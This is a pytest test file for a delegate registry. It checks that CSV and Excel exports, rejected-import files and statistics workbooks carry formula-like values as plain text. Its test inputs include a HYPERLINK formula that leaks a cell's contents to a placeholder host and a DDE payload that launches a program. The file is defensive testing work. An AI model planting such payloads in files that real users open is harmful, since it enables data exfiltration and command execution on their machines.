"""What a spreadsheet program would take for a formula is a text in every file that we hand out."""

import csv
import io
import re
import zipfile
from typing import TYPE_CHECKING

import pytest

from delegates.choices import Verdict
from delegates.exporting.people import Format, exported
from delegates.exporting.statistics import statistics_of, write_workbook
from delegates.importing.rejected import rejected_file
from delegates.models import Delegate, DelegationKind
from tests.factories import DelegateFactory, words
from tests.readings import reading_from
from tests.spreadsheets import sheets_of

if TYPE_CHECKING:
    from tests.delegates.importing.conftest import Office

LINK = '=HYPERLINK("http://example.org/?"&A1;"Open")'
TEXTS = [
    *(LINK, "=1+1", "+1", "-1", "@x", "-", "'=1", "''-", "{=A1}", "＝1", "＋1", "－1", "＠x"),
    *('" =1', "x;=1", "Minister\u2028=1", "=cmd|' /C calc'!A0"),
]
# No form and no import lets them in; who writes to the database does.
WITH_CONTROLS = ["\t=1", "\r=1", "\n=1", "x\t=1", "\t'+1"]
NAMES = ["Delegation", "Given name", "Family name", "Function"]
SIGNS = tuple("=+-@＝＋－＠\t\r\n")


def formulas(workbook: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        parts = [archive.read(name).decode() for name in archive.namelist()]
    return [found for part in parts for found in re.findall(r"<f[ >/]|<hyperlink|<ddeLink", part)]


def texts_in(workbook: bytes) -> list[str]:
    return [text for sheet in sheets_of(workbook) for row in sheet.rows for text in row.cells]


def file_of(office: "Office", file_format: Format) -> bytes:
    with exported(Delegate.objects.all(), office.conference, file_format) as file:
        return file.read()


@pytest.fixture
def people(office: "Office") -> None:
    for number, text in enumerate(TEXTS):
        DelegateFactory(
            delegation=office.osce, given_name=f"Ali {number}", function=text, department=text
        )


@pytest.fixture
def damaged(office: "Office") -> None:
    for text in [*TEXTS, *WITH_CONTROLS]:
        DelegateFactory(delegation=office.osce, given_name=text, family_name=text, function=text)


@pytest.mark.usefixtures("damaged")
def test_no_cell_of_an_exported_csv_begins_as_a_formula(office: "Office") -> None:
    content = file_of(office, Format.CSV).decode("utf-8-sig")

    # In whatever way a program takes lines and cells apart.
    for separator in ",;\t":
        for line in csv.reader(re.split(r"[\r\n]+", content), delimiter=separator):
            assert [cell for cell in line if cell.lstrip('" ').startswith(SIGNS)] == []


@pytest.mark.usefixtures("damaged")
def test_exported_workbook_holds_texts_and_no_formula(office: "Office") -> None:
    assert formulas(file_of(office, Format.XLSX)) == []


@pytest.mark.usefixtures("people")
@pytest.mark.parametrize("file_format", Format)
def test_export_of_them_imports_unchanged(office: "Office", file_format: Format) -> None:
    report = office.check_reading(reading_from(file_of(office, file_format)))

    assert [(row.verdict, row.problems) for row in report.rows] == [(Verdict.SAME, [])] * len(TEXTS)


def test_rows_that_were_not_imported_are_texts(office: "Office") -> None:
    text = io.StringIO()
    sent = [LINK, "+1", "-1", "@x", "'=1"]
    csv.writer(text).writerows([NAMES, *([each] * len(NAMES) for each in sent)])
    reading = office.reading(text.getvalue())

    workbook = rejected_file(office.conference, reading, office.check_reading(reading).held_back())

    assert formulas(workbook) == []
    assert [texts_in(workbook).count(each) for each in sent] == [len(NAMES)] * len(sent)


def test_kinds_of_the_statistics_are_texts(office: "Office") -> None:
    DelegateFactory(delegation=office.osce)
    DelegationKind.objects.filter(pk=office.osce.kind_id).update(section=words(LINK))
    file = io.BytesIO()

    write_workbook(file, statistics_of(office.conference))

    assert formulas(file.getvalue()) == []
    assert texts_in(file.getvalue()).count(LINK) == 1
